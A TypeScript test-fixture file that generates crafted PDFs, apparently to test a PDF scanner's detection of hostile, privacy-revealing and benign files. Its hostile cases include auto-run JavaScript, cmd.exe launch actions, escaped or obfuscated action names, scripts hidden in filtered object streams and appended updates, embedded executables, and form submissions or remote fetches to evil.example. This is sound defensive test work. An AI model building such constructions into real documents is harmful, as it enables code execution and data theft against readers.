/** PDF by ISO 32000-1: files whose every offset is right, so that a reader opens them without mending anything. */
import { deflateSync } from 'node:zlib';
import { type CraftedSet, maker } from './kinds.ts';

const pdf = maker('pdf');
const latin = (text: string): Buffer => Buffer.from(text, 'latin1');

type Part = string | Buffer;

/** A stream with its dictionary's entries. */
const stream = (entries: string, data: Part): Buffer => {
  const bytes = typeof data === 'string' ? latin(data) : data;
  return Buffer.concat([
    latin(`<< ${entries} /Length ${String(bytes.length)} >>\nstream\n`),
    bytes,
    latin('\nendstream'),
  ]);
};

/** A file of objects 1, 2, …, the first of which is the catalogue. */
export function pdfOf(objects: readonly Part[], trailer = '', tail = '', head = ''): Buffer {
  const pieces = [latin(`${head}%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n`)];
  let at = pieces[0]?.length ?? 0;
  const offsets = objects.map((object, index) => {
    const offset = at;
    const bytes = Buffer.concat([
      latin(`${String(index + 1)} 0 obj\n`),
      typeof object === 'string' ? latin(object) : object,
      latin('\nendobj\n'),
    ]);
    pieces.push(bytes);
    at += bytes.length;
    return offset;
  });
  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`);
  const count = String(objects.length + 1);
  pieces.push(
    latin(
      `xref\n0 ${count}\n0000000000 65535 f \n${lines.join('')}trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\nstartxref\n${String(at)}\n%%EOF\n${tail}`,
    ),
  );
  return Buffer.concat(pieces);
}

const text = stream('', 'BT /F1 12 Tf 72 720 Td (ok) Tj ET');
/** One page; entries for the catalogue and for the page, objects from 5 on. */
const page = (
  {
    catalogue = '',
    onPage = '',
    content = text,
    trailer = '',
    tail = '',
    head = '',
  }: {
    catalogue?: string;
    onPage?: string;
    content?: Buffer;
    trailer?: string;
    tail?: string;
    head?: string;
  },
  ...more: Part[]
): Buffer =>
  pdfOf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${onPage} >>`,
      content,
      ...more,
    ],
    trailer,
    tail,
    head,
  );
const annotation = (entries: string): Buffer =>
  page({ onPage: '/Annots [5 0 R]' }, `<< /Type /Annot /Rect [0 0 9 9] ${entries} >>`);
const linked = (action: string): Buffer => annotation(`/Subtype /Link /A << ${action} >>`);

/** Objects in an object stream, found by a cross-reference stream, as PDF 1.5 has it. */
function packedPdf(filter: string, pack: (data: Buffer) => Buffer, action: string): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 3 0 R ${action} >>`,
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 9 9] >>',
  ];
  let at = 0;
  const heads = objects.map((object, index) => {
    const head = `${String(index + 2)} ${String(at)}`;
    at += object.length + 1;
    return head;
  });
  const first = `${heads.join(' ')} `;
  const packed = pack(latin(`${first}${objects.join(' ')}`));
  const begin = latin('%PDF-1.5\n%\u00e2\u00e3\u00cf\u00d3\n');
  const body = Buffer.concat([
    latin('1 0 obj\n'),
    stream(`/Type /ObjStm /N 3 /First ${String(first.length)} ${filter}`, packed),
    latin('\nendobj\n'),
  ]);
  const offset = begin.length + body.length;
  const row = (kind: number, value: number, index: number) =>
    Buffer.from([kind, value >> 8, value & 255, index]);
  const table = Buffer.concat([
    row(0, 0, 255),
    row(1, begin.length, 0),
    row(2, 1, 0),
    row(2, 1, 1),
    row(2, 1, 2),
    row(1, offset, 0),
  ]);
  return Buffer.concat([
    begin,
    body,
    latin('5 0 obj\n'),
    stream('/Type /XRef /Size 6 /W [1 2 1] /Root 2 0 R /Filter /FlateDecode', deflateSync(table)),
    latin(`\nendobj\nstartxref\n${String(offset)}\n%%EOF\n`),
  ]);
}
/** The same with some of its words replaced by others. */
const withWords = (words: string, others: string): Buffer =>
  latin(
    packedPdf('/Filter /FlateDecode', deflateSync, '').toString('latin1').replace(words, others),
  );
const hex = (data: Buffer): Buffer => latin(`${data.toString('hex')}>`);
/** Runs of up to 128 bytes as they are. */
const runs = (data: Buffer): Buffer => {
  const pieces: Buffer[] = [];
  for (let at = 0; at < data.length; at += 128) {
    const piece = data.subarray(at, at + 128);
    pieces.push(Buffer.from([piece.length - 1]), piece);
  }
  return Buffer.concat([...pieces, Buffer.from([128])]);
};
/** Nine bits a letter, a clear code before each 200: LZW that never uses its table. */
const lzw = (data: Buffer): Buffer => {
  const codes = [...data].flatMap((byte, at) => (at % 200 === 0 ? [256, byte] : [byte]));
  const bits = [...codes, 257].map((code) => code.toString(2).padStart(9, '0')).join('');
  return Buffer.from(
    (bits.match(/.{1,8}/gu) ?? []).map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2)),
  );
};
const SCRIPT = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** Rows of PNG's filter 0. */
const predicted = (data: Buffer): Buffer => {
  const width = 8;
  const pieces: Buffer[] = [];
  for (let at = 0; at < data.length; at += width) {
    const row = Buffer.alloc(width, 32);
    data.copy(row, 0, at, at + width);
    pieces.push(Buffer.from([0]), row);
  }
  return deflateSync(Buffer.concat(pieces));
};

/** The file with changes appended, as every editor writes them. */
function appended(before: Buffer, number: number, object: string): Buffer {
  const offset = before.length;
  const body = `${String(number)} 0 obj\n${object}\nendobj\n`;
  const last = /startxref\n(\d+)\n%%EOF\n$/u.exec(before.toString('latin1'))?.[1] ?? '';
  const table = `xref\n${String(number)} 1\n${String(offset).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${last} >>\nstartxref\n${String(offset + body.length)}\n%%EOF\n`;
  return Buffer.concat([before, latin(body + table)]);
}

const INFO = '<< /Producer (WPS) /Author (Zhang San) /CreationDate (D:20240601) >>';

export const pdfs: CraftedSet = {
  'PDF：打开时运行脚本': pdf('hostile', () => page({ catalogue: SCRIPT })),
  'PDF：名字写成转义的脚本': pdf('hostile', () =>
    page({ catalogue: '/Open#41ction << /S /J#61v#61Script /J#53 (x) >>' }),
  ),
  'PDF：名字之间夹着注释': pdf('hostile', () =>
    page({ catalogue: '/OpenAction << /S% x\n/JavaScript% y\n/JS% z\n(x) >>' }),
  ),
  'PDF：页面打开时的动作': pdf('hostile', () =>
    page({ onPage: '/AA << /O << /S /GoToR /F (//evil.example/a.pdf) >> >>' }),
  ),
  'PDF：启动程序': pdf('hostile', () => linked('/S /Launch /Win << /F (cmd.exe) >>')),
  'PDF：启动程序，写成 F': pdf('hostile', () => linked('/S /Launch /F (cmd.exe)')),
  'PDF：附件': pdf('hostile', () =>
    page(
      { catalogue: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>' },
      '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
      stream('/Type /EmbeddedFile', 'MZ'),
    ),
  ),
  'PDF：附件，只有 EF 没有 Type': pdf('hostile', () =>
    page({ catalogue: '/AF [5 0 R]' }, '<< /F (a.exe) /EF << /F 6 0 R >> >>', stream('', 'MZ')),
  ),
  'PDF：附件批注': pdf('hostile', () => annotation('/Subtype /FileAttachment /FS (a.exe)')),
  'PDF：文件包': pdf('hostile', () => page({ catalogue: '/Collection << /View /T >>' })),
  'PDF：XFA 表单': pdf('hostile', () =>
    page({ catalogue: '/AcroForm << /XFA 5 0 R /Fields [] >>' }, stream('', '<xdp:xdp/>')),
  ),
  'PDF：可填的表单': pdf('hostile', () =>
    page(
      { catalogue: '/AcroForm << /Fields [5 0 R] >>', onPage: '/Annots [5 0 R]' },
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (x) /Rect [0 0 9 9] >>',
    ),
  ),
  'PDF：提交表单': pdf('hostile', () => linked('/S /SubmitForm /F (http://evil.example/)')),
  'PDF：导入数据': pdf('hostile', () => linked('/S /ImportData /F (a.fdf)')),
  'PDF：打开别处的文件': pdf('hostile', () => linked('/S /GoToR /F (//evil.example/share/a.pdf)')),
  'PDF：打开内嵌的文件': pdf('hostile', () => linked('/S /GoToE /T << /R /C /N (a) >>')),
  'PDF：链接写 javascript': pdf('hostile', () => linked('/S /URI /URI (javascript:alert\\(1\\))')),
  'PDF：链接到共享文件夹': pdf('hostile', () => linked('/S /URI /URI (file://evil.example/a.exe)')),
  'PDF：动作接着动作': pdf('hostile', () =>
    linked('/S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (a.exe) >>'),
  ),
  'PDF：富媒体': pdf('hostile', () => annotation('/Subtype /RichMedia /RichMediaContent << >>')),
  'PDF：声音': pdf('hostile', () => annotation('/Subtype /Sound /Sound 4 0 R')),
  'PDF：影片': pdf('hostile', () => annotation('/Subtype /Movie /Movie << /F (a.avi) >>')),
  'PDF：三维': pdf('hostile', () => annotation('/Subtype /3D /3DD 4 0 R')),
  'PDF：播放': pdf('hostile', () => linked('/S /Rendition /JS (x) /OP 0')),
  'PDF：加密': pdf('hostile', () =>
    page(
      { trailer: '/Encrypt 5 0 R /ID [<00> <00>]' },
      '<< /Filter /Standard /V 1 /R 2 /O () /U () /P -4 >>',
    ),
  ),
  'PDF：图像和文字由别处的文件提供': pdf('hostile', () =>
    page({ content: stream('/F (//evil.example/a.bin)', '') }),
  ),
  'PDF：引用别的 PDF 的页面': pdf('hostile', () =>
    page(
      { onPage: '/Resources << /XObject << /X 5 0 R >> >>' },
      stream(
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (//e.example/a.pdf) /Page 0 >>',
        '',
      ),
    ),
  ),
  'PDF：脚本在压缩的对象里': pdf('hostile', () =>
    packedPdf('/Filter /FlateDecode', deflateSync, SCRIPT),
  ),
  'PDF：脚本在没有压缩的对象流里，名字转义': pdf('hostile', () =>
    packedPdf('', (data) => data, '/OpenAction << /S /J#61vaScript /J#53 (x) >>'),
  ),
  'PDF：脚本在 ASCIIHex 的对象流里': pdf('hostile', () =>
    packedPdf('/Filter /ASCIIHexDecode', hex, SCRIPT),
  ),
  'PDF：脚本在两层过滤的对象流里': pdf('hostile', () =>
    packedPdf('/Filter [/AHx /Fl]', (data) => hex(deflateSync(data)), SCRIPT),
  ),
  'PDF：脚本在 RunLength 的对象流里': pdf('hostile', () =>
    packedPdf('/Filter /RunLengthDecode', runs, SCRIPT),
  ),
  'PDF：脚本在 LZW 的对象流里': pdf('hostile', () => packedPdf('/Filter /LZWDecode', lzw, SCRIPT)),
  'PDF：索引的列宽不是整数': pdf('hostile', () => withWords('/W [1 2 1]', '/W [1.2 2 1]')),
  'PDF：索引的列宽是负数': pdf('hostile', () => withWords('/W [1 2 1]', '/W [-1 2 1]')),
  'PDF：对象流说自己有小数个对象': pdf('hostile', () => withWords('/N 3', '/N 2.5')),
  'PDF：带预测的对象流，一行有一千万亿字节': pdf('hostile', () =>
    packedPdf(
      '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1000000000000000 >>',
      deflateSync,
      '',
    ),
  ),
  'PDF：脚本在带预测的对象流里': pdf('hostile', () =>
    packedPdf(
      '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>',
      predicted,
      SCRIPT,
    ),
  ),
  'PDF：后来追加的脚本': pdf('hostile', () =>
    appended(page({}, 'null'), 1, `<< /Type /Catalog /Pages 2 0 R ${SCRIPT} >>`),
  ),
  'PDF：先有脚本，后来改掉': pdf('hostile', () =>
    appended(page({ catalogue: SCRIPT }, 'null'), 1, '<< /Type /Catalog /Pages 2 0 R >>'),
  ),
  'PDF：脚本写在流里，由索引指过去': pdf('hostile', () => {
    const hidden = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${SCRIPT} >>\nendobj\n`;
    const file = page({ content: stream('', hidden) });
    const at = file.indexOf(hidden);
    const whole = file.toString('latin1');
    return latin(whole.replace(/\d{10} 00000 n /u, `${String(at).padStart(10, '0')} 00000 n `));
  }),
  'PDF：后面接着压缩包': pdf('hostile', () =>
    page({ tail: 'PK\u0003\u0004\u0014\0\0\0\0\0'.repeat(200) }),
  ),
  'PDF：前面是网页': pdf('hostile', () => page({ head: '<script>alert(1)</script>\n' })),
  'PDF：跳到共享文件夹里的 PDF': pdf('hostile', () =>
    linked(String.raw`/S /GoTo /F (\\\\evil.example\\a.pdf) /D [0 /Fit]`),
  ),
  'PDF：接着做的动作不认识': pdf('hostile', () =>
    linked('/S /URI /URI (https://a.example/) /Next << /S /SetState >>'),
  ),
  'PDF：关联的文件在网上': pdf('hostile', () =>
    page({ catalogue: '/AF [5 0 R]' }, '<< /Type /Filespec /FS /URL /F (http://evil.example/a) >>'),
  ),
  'PDF：图片的印刷版在别处': pdf('hostile', () =>
    page({}, stream('/Subtype /Image /OPI << /2.0 << /F (a.tif) >> >>', '')),
  ),
  'PDF：PostScript': pdf('hostile', () => page({}, stream('/Type /XObject /Subtype /PS', 'q'))),
  'PDF：没有写位置的附件批注': pdf('hostile', () =>
    page({ onPage: '/Annots [<< /Subtype /FileAttachment /FS << /F (a.exe) >> >>]' }),
  ),
  'PDF：没有写位置的多媒体批注': pdf('hostile', () =>
    page({ onPage: '/Annots [5 0 R]' }, '<< /Subtype /RichMedia >>'),
  ),
  'PDF：身份证号码作目的地的名字': pdf('hostile', () =>
    page({ catalogue: '/Dests << /110101199003070011 [3 0 R /Fit] >>' }),
  ),
  'PDF：身份证号码是 UTF-8 的全角数字': pdf('hostile', () =>
    annotation(
      `/Subtype /Text /Contents <efbbbf${Buffer.from('１１０１０１１９９００３０７００１１').toString('hex')}>`,
    ),
  ),
  'PDF：没传完': pdf('hostile', () => page({}).subarray(0, 300)),
  'PDF：文档信息里的作者': pdf('telling', () => page({ trailer: '/Info 5 0 R' }, INFO)),
  'PDF：XMP 里的拍摄地点': pdf('telling', () =>
    page(
      { catalogue: '/Metadata 5 0 R' },
      stream(
        '/Type /Metadata /Subtype /XML',
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description exif:GPSLatitude="38,17N"/></x:xmpmeta>',
      ),
    ),
  ),
  'PDF：一页文字': pdf('innocent', () => page({})),
  'PDF：对象流和交叉引用流': pdf('innocent', () =>
    packedPdf('/Filter /FlateDecode', deflateSync, ''),
  ),
  'PDF：书签、打开在第一页、目的地表': pdf('innocent', () =>
    page(
      {
        catalogue:
          '/OpenAction [3 0 R /FitH 842] /Outlines 5 0 R /PageMode /UseOutlines /Names << /Dests << /Names [(a) [3 0 R /Fit]] >> >>',
      },
      '<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>',
      '<< /Title (a) /Parent 5 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>',
    ),
  ),
  'PDF：网页链接': pdf('innocent', () => linked('/S /URI /URI (https://www.example.gov.cn/a?b=1)')),
  'PDF：文字里写着脚本的名字': pdf('innocent', () =>
    page({
      content: stream('', 'BT (use /JavaScript and /Launch, 5 0 obj << /S /Launch >>) Tj ET'),
    }),
  ),
  'PDF：标题里写着 /JavaScript': pdf('innocent', () =>
    page(
      { catalogue: '/Outlines 5 0 R' },
      '<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>',
      '<< /Title (about /JavaScript \\(and /JS \\(x\\)\\)) /Parent 5 0 R /Dest [3 0 R /Fit] >>',
    ),
  ),
  'PDF：电子签章': pdf('innocent', () =>
    page(
      { catalogue: '/AcroForm << /Fields [5 0 R] /SigFlags 3 >>', onPage: '/Annots [5 0 R]' },
      '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sig1) /V 6 0 R /Rect [0 0 99 99] /F 132 >>',
      `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 9 99 9] /Contents <${'00'.repeat(200)}> >>`,
    ),
  ),
  'PDF：空的表单字典': pdf('innocent', () => page({ catalogue: '/AcroForm << /Fields [] >>' })),
  'PDF：扫描件，JPEG 和传真压缩': pdf('innocent', () =>
    page(
      { onPage: '/Resources << /XObject << /A 5 0 R /B 6 0 R >> >>' },
      stream(
        '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode',
        Buffer.from([0xff, 0xd8, 0xff, 0xd9]),
      ),
      stream(
        '/Type /XObject /Subtype /Image /Width 8 /Height 1 /ImageMask true /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 8 >>',
        Buffer.from([0, 16, 1]),
      ),
    ),
  ),
  'PDF：批注和图章': pdf('innocent', () =>
    page(
      { onPage: '/Annots [5 0 R 6 0 R 7 0 R]' },
      '<< /Type /Annot /Subtype /Highlight /Rect [0 0 9 9] /QuadPoints [0 0 9 0 0 9 9 9] >>',
      '<< /Type /Annot /Subtype /Stamp /Rect [0 0 9 9] /Name /Approved >>',
      '<< /Type /Annot /Subtype /FreeText /Rect [0 0 9 9] /Contents (ok) /DA (/Helv 9 Tf) >>',
    ),
  ),
  'PDF：改过一次再存的': pdf('innocent', () =>
    appended(page({}, 'null'), 5, '<< /Producer (x) >>'),
  ),
  'PDF：末尾有空行和空字节': pdf('innocent', () => page({ tail: '\r\n\r\n\0\0\0\0' })),
  'PDF：回车作换行': pdf('innocent', () =>
    latin(
      '%PDF-1.4\r1 0 obj\r<</Type/Catalog/Pages 2 0 R>>\rendobj\r2 0 obj\r<</Type/Pages/Kids[3 0 R]/Count 1>>\rendobj\r3 0 obj\r<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\rendobj\rxref\r0 4\r0000000000 65535 f\r\n0000000009 00000 n\r\n0000000055 00000 n\r\n0000000106 00000 n\r\ntrailer\r<</Size 4/Root 1 0 R>>\rstartxref\r168\r%%EOF\r',
    ),
  ),
};
